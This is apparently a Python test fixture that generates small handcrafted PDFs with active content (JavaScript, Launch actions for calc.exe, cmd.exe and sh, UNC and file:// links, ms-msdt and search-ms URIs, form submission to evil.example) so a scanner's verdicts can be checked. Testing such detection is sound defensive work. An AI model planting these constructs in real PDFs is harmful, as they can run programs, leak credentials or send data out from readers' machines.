"""PDFs that act, each in a way of its own, as somebody would write them by hand.

A class is its catalogue's entries, its page's entries, further objects from number 4 on, and the
name that its refusal has. Variants of a way are in one line only where viewers treat them apart.
"""

from medvault.domain.media import Verdict
from support.corpus.handwritten import document, link, widget
from support.files import PDF, Sample

SCRIPT, ACTION, MEDIA, ATTACHMENT = (
    Verdict.HAS_SCRIPT,
    Verdict.HAS_ACTION,
    Verdict.HAS_MEDIA,
    Verdict.HAS_ATTACHMENT,
)
_JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_UNC = rb"(\\\\evil\\share\\a.pdf)"

AT_OPENING = {
    "a script": (_JS, SCRIPT),
    "a script with its type": (b"<</Type/Action/S/JavaScript/JS(1)>>", SCRIPT),
    "a script named in hexadecimal": (b"<</#53/#4aavaScrip#74/J#53(1)>>", SCRIPT),
    "a script whose kind is an object of its own": (b"<</S 4 0 R/JS(1)>>", SCRIPT),
    "a web page": (b"<</S/URI/URI(http://evil.example)>>", ACTION),
    "a file of this machine": (b"<</S/URI/URI(file://///evil/share)>>", ACTION),
    "another pdf on a share": (b"<</S/GoToR/D[0/Fit]/F" + _UNC + b">>", ACTION),
    "another pdf of the web": (
        b"<</S/GoToR/D[0/Fit]/F<</FS/URL/F(http://evil.example)>>>>",
        ACTION,
    ),
    "a pdf within": (b"<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>", ATTACHMENT),
    "a program": (b"<</S/Launch/F(calc.exe)>>", ACTION),
    "a program of windows": (b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", ACTION),
    "a program of unix": (b"<</S/Launch/Unix(sh)>>", ACTION),
    "an article of another pdf": (b"<</S/Thread/D 0/F" + _UNC + b">>", ACTION),
    "an article": (b"<</S/Thread/D 0>>", ACTION),
    "the printer": (b"<</S/Named/N/Print>>", ACTION),
    "a menu's command": (b"<</S/Named/N/SaveAs>>", ACTION),
    "a form sent away": (b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example)>>>>", ACTION),
    "a form filled from a file": (b"<</S/ImportData/F" + _UNC + b">>", ACTION),
    "a form emptied": (b"<</S/ResetForm>>", ACTION),
    "something hidden": (b"<</S/Hide/T(a)>>", ACTION),
    "a layer switched": (b"<</S/SetOCGState/State[/OFF]>>", ACTION),
    "a rendition": (b"<</S/Rendition/OP 0>>", MEDIA),
    "a sound": (b"<</S/Sound/Sound 4 0 R>>", MEDIA),
    "a movie": (b"<</S/Movie/T(a)>>", MEDIA),
    "a view of a scene": (b"<</S/GoTo3DView/V/D>>", MEDIA),
    "a command to rich media": (b"<</S/RichMediaExecute/CMD<</C(play)>>>>", MEDIA),
    "a transition": (b"<</S/Trans/Trans<</S/Fly>>>>", ACTION),
    "a part of a document": (b"<</S/GoToDp/Dp 4 0 R>>", ACTION),
    "what nobody has heard of": (b"<</S/Frobnicate/F 3>>", ACTION),
    "what nobody has heard of, by its type": (b"<</Type/Action/S/Frobnicate>>", ACTION),
    "a chain that ends in a script": (b"<</S/GoTo/D[3 0 R/Fit]/Next" + _JS + b">>", SCRIPT),
    "a chain that ends on a share": (
        b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next[<</S/GoToR/F" + _UNC + b">>]>>]>>",
        ACTION,
    ),
    "a chain that ends in the unknown": (
        b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/Frobnicate>>>>",
        ACTION,
    ),
}

CLICKED = {
    "a script's address": (b"<</S/URI/URI(javascript:alert\\(1\\))>>", ACTION),
    "a script's address behind a tab": (b"<</S/URI/URI(\\tJaVaScRiPt:1)>>", ACTION),
    "a script's address in utf-16": (b"<</S/URI/URI<FEFF006A0073003A0031>>>", ACTION),
    "a file's address": (b"<</S/URI/URI(file:///etc/passwd)>>", ACTION),
    "a share's address": (b"<</S/URI/URI" + _UNC + b">>", ACTION),
    "a relative address": (b"<</S/URI/URI(../a.exe)>>", ACTION),
    "an address of a protocol's handler": (b"<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>", ACTION),
    "an address of a search": (b"<</S/URI/URI(search-ms:query=x&crumb=location:evil)>>", ACTION),
    "an address that is data": (b"<</S/URI/URI(data:text/html,x)>>", ACTION),
    "an address of an smb server": (b"<</S/URI/URI(smb://evil/share)>>", ACTION),
    "a web address of backslashes": (rb"<</S/URI/URI(http:\\\\evil\\share)>>", ACTION),
    "a web address with a line break": (b"<</S/URI/URI(http://a.example/\\nx)>>", ACTION),
    "a mail that takes a file along": (b"<</S/URI/URI(mailto:a@b.example?attach=a.txt)>>", ACTION),
    "a mail that hides what it takes along": (
        b"<</S/URI/URI(mailto:a@b.example?%61ttach=a.txt)>>",
        ACTION,
    ),
    "a telephone's code": (b"<</S/URI/URI(tel:*2767*3855%23)>>", ACTION),
    "no address at all": (b"<</S/URI>>", ACTION),
    "another pdf": (b"<</S/GoToR/D[0/Fit]/F" + _UNC + b">>", ACTION),
    "a program": (b"<</S/Launch/F(calc.exe)>>", ACTION),
    "a script": (_JS, SCRIPT),
    "a form sent away": (b"<</S/SubmitForm/F(http://evil.example)>>", ACTION),
    "the unknown": (b"<</S/Frobnicate>>", ACTION),
    "a page, then the web": (
        b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>",
        ACTION,
    ),
    "the web, then a script": (
        b"<</S/URI/URI(https://a.example)/Next" + _JS + b">>",
        SCRIPT,
    ),
}

_WEB = b"<</S/URI/URI(https://evil.example)>>"
ELSEWHERE: dict[str, tuple[bytes, bytes, list[bytes], Verdict]] = {
    "a script in a tree of names": (
        b"/Names<</JavaScript<</Names[(a)" + _JS + b"]>>>>",
        b"",
        [],
        SCRIPT,
    ),
    "a script deep in a tree of names": (
        b"/Names<</JavaScript<</Kids[4 0 R]>>>>",
        b"",
        [b"<</Limits[(a)(a)]/Names[(a)<<>>]>>"],
        SCRIPT,
    ),
    "a script in a stream": (
        b"/OpenAction<</S/JavaScript/JS 4 0 R>>",
        b"",
        [b"<</Length 1>>stream\n1\nendstream"],
        SCRIPT,
    ),
    "a script before the file is closed": (b"/AA<</WC" + _JS + b">>", b"", [], SCRIPT),
    "a trigger before the file is printed": (b"/AA<</WP<</S/Named/N/NextPage>>>>", b"", [], ACTION),
    "a trigger of a page": (b"", b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>", [], ACTION),
    "a web page when a page is shown": (b"", b"/AA<</O" + _WEB + b">>", [], ACTION),
    "a trigger of a link": (
        b"",
        link(b"<</S/Named/N/NextPage>>", b"/AA<</E" + _WEB + b">>"),
        [],
        ACTION,
    ),
    "a trigger of the unknown": (b"", b"/AA<</C<</S/Frobnicate>>>>", [], ACTION),
    "a script that computes a field": (
        b"/AcroForm<</Fields[4 0 R]>>",
        b"",
        [b"<</T(a)/FT/Tx/AA<</C" + _JS + b">>>>"],
        SCRIPT,
    ),
    "a script in a child of a field": (
        b"/AcroForm<</Fields[4 0 R]>>",
        b"",
        [b"<</T(a)/Kids[5 0 R]>>", b"<</Parent 4 0 R/T(b)/FT/Tx/AA<</K" + _JS + b">>>>"],
        SCRIPT,
    ),
    "a button that opens the web": (b"", widget(b"/A" + _WEB), [], ACTION),
    "a button that empties its form": (b"", widget(b"/A<</S/ResetForm>>"), [], ACTION),
    "a button of the unknown": (b"", widget(b"/A<</S/Frobnicate>>"), [], ACTION),
    "a bookmark of the web": (
        b"/Outlines 4 0 R",
        b"",
        [
            b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
            b"<</Title(a)/Parent 4 0 R/A" + _WEB + b">>",
        ],
        ACTION,
    ),
    "a bookmark of a share": (
        b"/Outlines 4 0 R",
        b"",
        [
            b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
            b"<</Title(a)/Parent 4 0 R/A<</S/GoToR/F" + _UNC + b">>>>",
        ],
        ACTION,
    ),
    "a bookmark of the unknown": (
        b"/Outlines 4 0 R",
        b"",
        [
            b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
            b"<</Title(a)/Parent 4 0 R/A<</S/Frobnicate>>>>",
        ],
        ACTION,
    ),
    "a step of a presentation": (
        b"",
        b"/PresSteps<</Type/NavNode/NA<</S/Frobnicate>>>>",
        [],
        ACTION,
    ),
    "a step back of a presentation": (
        b"",
        b"/PresSteps<</Type/NavNode/PA" + _WEB + b">>",
        [],
        ACTION,
    ),
    "renditions by name": (b"/Names<</Renditions<</Names[(a)<</S/MR>>]>>>>", b"", [], MEDIA),
    "a slide show": (
        b"/Names<</AlternatePresentations<</Names[(a)<</Type/SlideShow>>]>>>>",
        b"",
        [],
        MEDIA,
    ),
    "a screen": (b"", b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]>>]", [], MEDIA),
    "a movie": (b"", b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>>>]", [], MEDIA),
    "a sound": (b"", b"/Annots[<</Subtype/Sound/Rect[0 0 9 9]>>]", [], MEDIA),
    "a scene": (b"", b"/Annots[<</Subtype/3D/Rect[0 0 9 9]>>]", [], MEDIA),
    "rich media": (b"", b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]", [], MEDIA),
    "an annotation that nobody knows": (
        b"",
        b"/Annots[<</Subtype/Hologram/Rect[0 0 9 9]>>]",
        [],
        ACTION,
    ),
    "a scene's data": (
        b"/Spare 4 0 R",
        b"",
        [b"<</Type/3D/Subtype/U3D/Length 1>>stream\n1\nendstream"],
        MEDIA,
    ),
    "content from a share": (
        b"",
        b"/Contents 4 0 R",
        [b"<</F" + _UNC + b"/Length 0>>stream\n\nendstream"],
        ACTION,
    ),
    "content from the web": (
        b"",
        b"/Contents 4 0 R",
        [b"<</F<</FS/URL/F(http://evil.example)>>/Length 0>>stream\n\nendstream"],
        ACTION,
    ),
    "content with a filter for another file": (
        b"",
        b"/Contents 4 0 R",
        [b"<</FFilter/FlateDecode/Length 0>>stream\n\nendstream"],
        ACTION,
    ),
    "a page of another pdf": (
        b"/Spare 4 0 R",
        b"",
        [
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F"
            + _UNC
            + b"/Page 0>>/Length 0>>stream\n\nendstream"
        ],
        ACTION,
    ),
    "postscript": (
        b"/Spare 4 0 R",
        b"",
        [b"<</Type/XObject/Subtype/PS/Length 1>>stream\n1\nendstream"],
        ACTION,
    ),
    "postscript in a form": (
        b"/Spare 4 0 R",
        b"",
        [
            b"<</Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 9 9]/PS 4 0 R/Length 0>>stream\n\nendstream"
        ],
        ACTION,
    ),
    "postscript of level 1": (
        b"/Spare 4 0 R",
        b"",
        [b"<</Subtype/PS/Level1 4 0 R/Length 0>>stream\n\nendstream"],
        ACTION,
    ),
    "a picture at the printer's": (
        b"/Spare 4 0 R",
        b"",
        [
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</1.3<</Type/OPI/F(a.tif)>>>>/Length 0>>stream\n\nendstream"
        ],
        ACTION,
    ),
    "a file that lies elsewhere": (b"/AF[<</Type/Filespec/F" + _UNC + b">>]", b"", [], ACTION),
    "a pinned file that lies elsewhere": (
        b"",
        b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</UF(http://evil.example/a)>>>>]",
        [],
        ACTION,
    ),
    "a file of the old macintosh": (b"/AF[<</Type/Filespec/Mac(a)>>]", b"", [], ACTION),
    "links that start at a share": (
        b"/URI<</Base(file://evil/share/)>>",
        link(b"<</S/URI/URI(www.a.example)>>"),
        [],
        ACTION,
    ),
    "an xfa form": (
        b"/AcroForm<</Fields[]/XFA 4 0 R>>",
        b"",
        [b"<</Length 6>>stream\n<xdp/>\nendstream"],
        ACTION,
    ),
    "an xfa form in parts": (
        b"/AcroForm<</Fields[]/XFA[(template)4 0 R]>>",
        b"",
        [b"<</Length 6>>stream\n<xdp/>\nendstream"],
        ACTION,
    ),
    "a portfolio": (b"/Collection<</Type/Collection/View/H>>", b"", [], ATTACHMENT),
    "two actions under one name": (
        b"/OpenAction<</S/Launch/F(a)/S/GoTo/D[3 0 R/Fit]>>",
        b"",
        [],
        ACTION,
    ),
    "two openings": (b"/OpenAction" + _JS + b"/OpenAction[3 0 R/Fit]", b"", [], ACTION),
    "a kind said twice": (b"", link(b"<</S/URI/S/GoTo/URI(https://a.example)>>"), [], ACTION),
}


def samples() -> list[Sample]:
    """All of them."""
    found = [
        _sample(f"opens with {name}", verdict, b"/OpenAction" + action, b"", b"/JavaScript")
        for name, (action, verdict) in AT_OPENING.items()
    ]
    found += [
        _sample(f"leads by a click to {name}", verdict, b"", link(action))
        for name, (action, verdict) in CLICKED.items()
    ]
    found += [
        _sample(f"holds {name}", verdict, catalogue, page, *others)
        for name, (catalogue, page, others, verdict) in ELSEWHERE.items()
    ]
    return found


def _sample(name: str, verdict: Verdict, *parts: bytes) -> Sample:
    return Sample(f"pdf that {name}", PDF, lambda: document(*parts), verdict)
